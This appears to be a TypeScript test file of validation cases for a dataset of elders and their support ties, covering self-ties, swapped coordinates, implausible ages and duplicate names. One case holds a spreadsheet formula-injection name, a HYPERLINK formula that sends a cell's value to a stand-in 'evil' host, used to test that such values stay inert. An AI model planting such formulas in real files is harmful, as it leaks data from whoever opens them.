import { data, ends, names, type Case } from './case.ts';

const people = 'id,name,lon,lat\na,Ann,121.40,31.20\nb,Bo,121.41,31.21\nc,Cy,121.42,31.22\n';

export const meaningCases: readonly Case[] = [
  {
    id: '90',
    title: 'an elder who is their own neighbour',
    outcome: 'repair',
    files: () => data({ people: 'id\na\n', ties: 'supporter,supported,kind\na,a,neighbour\n' }),
    issues: [['self-tie', 2, null]],
  },
  {
    id: '91',
    title: 'a tie to somebody who had moved or died',
    outcome: 'repair',
    files: () =>
      data({
        people: 'id,to,ended_because\na,2023-05-01,died\nb,,\n',
        ties: 'supporter,supported,from\na,b,2024-01-01\nb,a,2020-01-01\n',
      }),
    issues: [
      ['tie-after-end', 2, 'supporter'],
      ['tie-after-end', 3, 'supported'],
    ],
    holds: ends,
    equals: [
      ['a', 'b'],
      ['b', 'a'],
    ],
  },
  {
    id: '92',
    title: 'one person twice, in traditional and simplified characters',
    outcome: 'repair',
    files: () => data({ people: '编号,姓名,出生年份\n1,劉建國,1941\n2,刘建国,1941\n3,刘建国,1950\n' }),
    issues: [['possible-duplicate', 3, 'name']],
  },
  {
    id: '93',
    title: 'longitude and latitude swapped',
    outcome: 'repair',
    files: () => data({ people: `${people}d,Di,31.2,121.4\n` }),
    issues: [['coordinates-swapped', 5, 'lon']],
  },
  {
    id: '94',
    title: 'a point at 0, 0, one in another county, and a place beyond the pole',
    outcome: 'list',
    files: () =>
      data({
        people: `${people}d,Di,0,0\ne,Ed,116.4,39.9\n`,
        places: 'id,lon,lat\nhall,125.3,95\nclinic,116.4,39.9\n',
      }),
    issues: [
      ['coordinates-outside', 5, 'lon'],
      ['coordinates-outside', 6, 'lon'],
      ['coordinates-outside', 2, 'lon'],
    ],
    holds: (graph) => [...graph.people.slice(3), ...graph.dataset.places].map(({ lon, lat }) => [lon, lat]),
    equals: [
      [null, null],
      [null, null],
      [null, null],
      [116.4, 39.9],
    ],
  },
  {
    id: '95',
    title: 'ages 8, 132 and -1',
    outcome: 'list',
    files: () =>
      data({
        people: 'id,roles\na,elder\nb,elder\nc,elder\n',
        person_waves: 'person,wave,age\na,1,8\nb,1,132\nc,1,-1\n',
      }),
    issues: [
      ['age-unlikely', 2, 'age'],
      ['age-unlikely', 3, 'age'],
      ['age-unlikely', 4, 'age'],
    ],
  },
  {
    id: '95b',
    title: 'born in the future',
    outcome: 'list',
    files: () => data({ people: 'id,birth_year\na,2031\nb,1941\n', waves: 'id,date\n1,2024-06-30\n' }),
    issues: [['age-unlikely', 2, 'birth_year']],
  },
  {
    id: '96',
    title: 'codes of a community with 12 and with 9 digits',
    outcome: 'repair',
    files: () => data({ people: 'id,community\na,310104001002\nb,310104001003\nc,310104001\n' }),
    issues: [['code-length', 4, 'community']],
  },
  {
    id: '97',
    title: 'how often, in words',
    outcome: 'list',
    files: () =>
      data({
        people: 'id\na\nb\n',
        ties: 'supporter,supported,frequency_30d\na,b,每天\nb,a,每周\na,b,偶尔\n',
      }),
    issues: [
      ['repaired-cell', 2, 'frequency_30d'],
      ['repaired-cell', 3, 'frequency_30d'],
      ['value-unreadable', 4, 'frequency_30d'],
      ['repeated-tie', 4, null],
    ],
    holds: (graph) => graph.ties.map(({ row }) => row.frequency_30d),
    equals: [30, 4, null],
  },
  {
    id: '98',
    title: 'names that a spreadsheet would run',
    outcome: 'accept',
    files: () =>
      data({
        people: 'id,name\n1,"=HYPERLINK(""http://evil/""&A2)"\n2,+8613800001111\n3,-\n4,@x\n5,＝1+1\n',
      }),
    issues: [],
    holds: names,
    equals: [
      ['1', '=HYPERLINK("http://evil/"&A2)'],
      ['2', '+8613800001111'],
      ['3', '-'],
      ['4', '@x'],
      ['5', '＝1+1'],
    ],
  },
];
